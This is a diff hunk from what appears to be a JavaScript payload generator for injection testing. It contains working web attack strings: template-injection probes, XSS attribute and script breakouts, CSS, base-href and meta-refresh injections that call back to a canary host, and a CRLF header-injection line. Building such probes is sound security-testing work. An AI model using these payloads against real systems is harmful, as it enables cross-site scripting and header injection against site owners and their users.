@@ -20,7 +20,7 @@ export function payload(number, start = "javascript:") {
     `{{ 7 * 7 }}{% raw %}{# #}\${${call}}\`${call}\``,
     `" onmouseover="${call}" onfocus="${call}" autofocus x='`,
     `';${call};//\\';${call};//\\";${call};//`,
-    `\u2028${call}\u2029\u202e\u2066\u200b`,
+    `\u2028${call}\u2029\u202b\u2066\u200b`,
     `<style>*{background:url(https://${CANARY}/${number})}</style><base href=https://${CANARY}/>`,
     `<meta http-equiv=refresh content=0;url=https://${CANARY}/${number}><a href=javascript:${call}>x</a>`,
     `$1 \${env:x} %0d%0aX-Evil: 1 ; return 200; } hostile${number}`,
